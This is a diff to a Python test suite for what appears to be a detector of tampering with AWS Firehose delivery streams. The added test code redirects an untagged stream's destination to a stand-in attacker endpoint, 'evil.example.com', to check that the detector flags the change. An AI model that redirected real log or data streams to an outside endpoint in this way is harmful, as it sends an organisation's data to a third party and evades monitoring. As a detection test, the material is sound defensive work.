@@ -48,7 +48,7 @@ def test_what_to_do_about_a_second_filter_tells_the_stack_s_own(deployed):
     assert kinds() == set()
 
 
-def test_finds_a_stream_that_lost_its_tag_and_one_that_is_gone(deployed):
+def test_finds_a_stream_to_somebody_else_one_that_lost_its_tag_and_one_that_is_gone(deployed):
     """As the streams of the template are named and tagged; what it says to do brings the tag back."""
     firehose = deployed.client("firehose")
     names = firehose.list_delivery_streams(DeliveryStreamType="DirectPut")["DeliveryStreamNames"]
@@ -59,6 +59,15 @@ def test_finds_a_stream_that_lost_its_tag_and_one_that_is_gone(deployed):
         if tag["Key"] == "LogDeliveryEnabled"
     ]
     (other,) = set(names) - set(tagged)
+    found = firehose.describe_delivery_stream(DeliveryStreamName=other)["DeliveryStreamDescription"]
+    endpoint = {"EndpointConfiguration": {"Url": "https://evil.example.com/"}}
+    firehose.update_destination(
+        DeliveryStreamName=other,
+        CurrentDeliveryStreamVersionId=found["VersionId"],
+        DestinationId=found["Destinations"][0]["DestinationId"],
+        HttpEndpointDestinationUpdate=endpoint,
+    )
+    assert kinds() == {"stream-changed"}
     firehose.untag_delivery_stream(DeliveryStreamName=tagged[0], TagKeys=["LogDeliveryEnabled"])
     firehose.delete_delivery_stream(DeliveryStreamName=other)
     assert kinds() == {"delivery-failed", "stream-gone", "stream-tag-missing"}
